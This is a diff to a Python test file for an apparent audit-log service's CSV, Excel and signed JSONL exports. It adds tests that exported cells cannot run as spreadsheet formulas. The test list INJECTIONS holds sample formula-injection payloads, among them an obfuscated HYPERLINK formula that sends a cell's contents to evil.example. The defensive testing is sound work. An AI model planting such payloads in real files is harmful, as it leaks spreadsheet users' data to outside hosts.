@@ -11,10 +11,11 @@ import openpyxl
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from openpyxl.utils.escape import unescape
 
 from sealog import times
 from sealog.exports import jobs, writers
-from sealog.ledger import audit
+from sealog.ledger import audit, bundle
 
 from conftest import event
 
@@ -86,21 +87,85 @@ def test_csv_rows_with_commas_quotes_and_line_breaks_are_written_as_csv_writer_w
                                          "plain again"]
     assert rows[-1][3] == 'O"Brien, Pat'
     again = io.StringIO(newline="")
-    csv.writer(again, lineterminator="\r\n").writerows(rows)
+    csv.writer(again, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
     assert again.getvalue() == content
 
 
+# What a spreadsheet may split a cell at (comma, semicolon, tab, pipe, space), and what
+# begins a formula, after any quotes and blanks a spreadsheet may pass over.
+SEPARATORS = ",;\t| "
+FORMULA_STARTS = "=+-@\t\r"
+INJECTIONS = [
+    "x;=1+1;y",
+    '=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(115)&"://evil.example/?"&A2,'
+    '"open")',
+    "@SUM(1)", "a\t=1", "-2+3", "+1+1", " =1+1", 'x, "=1+1"', "x|=1+1", "x y -2+3",
+    "x;;@A1", "line\n=1+1", "line\r\n@SUM(1)", "\r=1+1", '"=1+1"', "x;'=1",
+    'x;" \t"=1', "https://evil.example/",
+]
+
+
+def live_pieces(content: str) -> list[str]:
+    """Every field a spreadsheet could run as a formula, with any separator, reading the
+    quotes or not."""
+    live = []
+    for delimiter in SEPARATORS:
+        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+            reader = csv.reader(io.StringIO(content, newline=""), delimiter=delimiter,
+                                quoting=quoting)
+            live += [f for row in reader for f in row
+                     if f.lstrip(' "\t\r\n')[:1] in set("=+-@")]
+    return live
+
+
 @settings(max_examples=300, deadline=None)
-@given(st.lists(st.text(alphabet=st.sampled_from('ab ,"\r\n\t=é'), max_size=6),
+@given(st.lists(st.text(alphabet=st.sampled_from('ab ,;|"\'\r\n\t=+-@é\x00'), max_size=8),
                 min_size=2, max_size=5))
-def test_a_plain_csv_line_is_exactly_what_csv_writer_writes(fields):
+def test_a_csv_line_quotes_every_field_and_leaves_no_piece_live(fields):
     buffer = io.StringIO(newline="")
-    csv.writer(buffer, lineterminator="\r\n").writerow(fields)
-    line = writers.plain_csv_line(fields)
-    if line is not None:
-        assert line + "\r\n" == buffer.getvalue()
-    else:
-        assert any(c in "".join(fields) for c in ',"\r\n')
+    csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerow(
+        [writers.neutralise(f) for f in fields])
+    line = writers.csv_line(fields)
+    assert line + "\r\n" == buffer.getvalue()
+    assert not live_pieces(line + "\r\n")
+    for field in fields:  # only "'" is added, and only where a piece would be live
+        assert writers.neutralise(field).replace("'", "") == field.replace("'", "")
+
+
+def test_csv_cells_stay_text_whatever_separator_the_file_is_opened_with(tenant, worker):
+    sent = tenant.client.post("/api/v1/events", json={"events": [event(
+        description=text, event_type=text[:64],
+        actor={"id": text, "name": text}, resource={"type": "agent", "id": text},
+        request={"method": "GET", "path": "/agents;" + text}) for text in INJECTIONS]})
+    assert sent.status_code == 201, sent.text
+    content = download(tenant, run(tenant, worker)).content.decode("utf-8-sig")
+    assert not live_pieces(content)
+    rows = list(csv.reader(io.StringIO(content, newline="")))
+    again = io.StringIO(newline="")
+    csv.writer(again, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
+    assert again.getvalue() == content  # every field quoted
+    shown = [r[6] for r in rows[1:]]
+    assert shown[:5] == ["x;'=1+1;y", "'" + INJECTIONS[1], "'@SUM(1)", "a\t'=1", "'-2+3"]
+    assert shown[5:] == [writers.neutralise(t) for t in INJECTIONS[5:]]
+    assert [r[11] for r in rows[1:]] == ["/agents;" + writers.neutralise(t) for t in INJECTIONS]
+
+
+def test_excel_cells_are_text_never_formulas_or_links(tenant, worker):
+    tenant.client.post("/api/v1/events", json={"events": [event(
+        description=text, actor={"id": text, "name": text},
+        request={"method": "POST", "path": "/agents", "body": {"note": text}, "response": -1})
+        for text in INJECTIONS]})
+    workbook = download(tenant, run(tenant, worker, format="xlsx")).content
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
+    rows = list(sheet.iter_rows(min_row=2))
+    assert [unescape(r[6].value) for r in rows] == INJECTIONS  # the exact text
+    cells = [c for r in rows for c in r if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink]
+    assert not sheet._hyperlinks
+    for cell in cells:  # text that looks like a formula stays text when edited
+        if cell.data_type == "s" and unescape(cell.value).startswith(tuple(FORMULA_STARTS)):
+            assert cell.quotePrefix, cell.coordinate
+    assert rows[0][18].value == "-1" and rows[0][18].quotePrefix
 
 
 def test_excel_export_has_types_header_and_sheets(tenant, worker, monkeypatch):
@@ -139,6 +204,31 @@ def test_jsonl_bundle_verifies_offline_and_catches_a_tampered_line(tenant, worke
     path.write_bytes(b"".join(lines))
     report = audit.verify_bundle_file(path, [key])
     assert [(f.kind, f.index) for f in report.failures] == [("modified", 3)]
+
+
+def test_a_bundle_of_events_sent_out_of_time_order_verifies(tenant, worker, app, tmp_path,
+                                                            capsys):
+    """The bundle is in index order, whatever the events' times: an honest export verifies,
+    and lines swapped afterwards are still caught."""
+    from sealog.cli import main
+
+    now = times.now_us()
+    for minutes in (1, 60, 30):  # sent in this order, so time order is not index order
+        sent = tenant.client.post("/api/v1/events", json={"events": [event(
+            occurred_at=times.format_rfc3339(now - minutes * 60 * 10**6),
+            description=f"{minutes} minutes ago")]})
+        assert sent.status_code == 201, sent.text
+    path = tmp_path / "day.jsonl"
+    path.write_bytes(download(tenant, run(tenant, worker, format="jsonl", range="24h")).content)
+    verify = ["verify", str(path), "--verifier-key", app.state.signer.verifier.text()]
+    code, out = main(verify), capsys.readouterr().out
+    assert code == 0 and "3/3 events valid" in out, out
+    lines = path.read_bytes().split(b"\n")
+    assert [bundle.parse_entry_line(line).index for line in lines[1:4]] == [0, 1, 2]
+    lines[1], lines[2] = lines[2], lines[1]
+    path.write_bytes(b"\n".join(lines))
+    code, out = main(verify), capsys.readouterr().out
+    assert code == 1 and "FAILED reordered: index 0" in out, out
 
 
 def test_rows_are_those_that_matched_at_creation(tenant, worker):
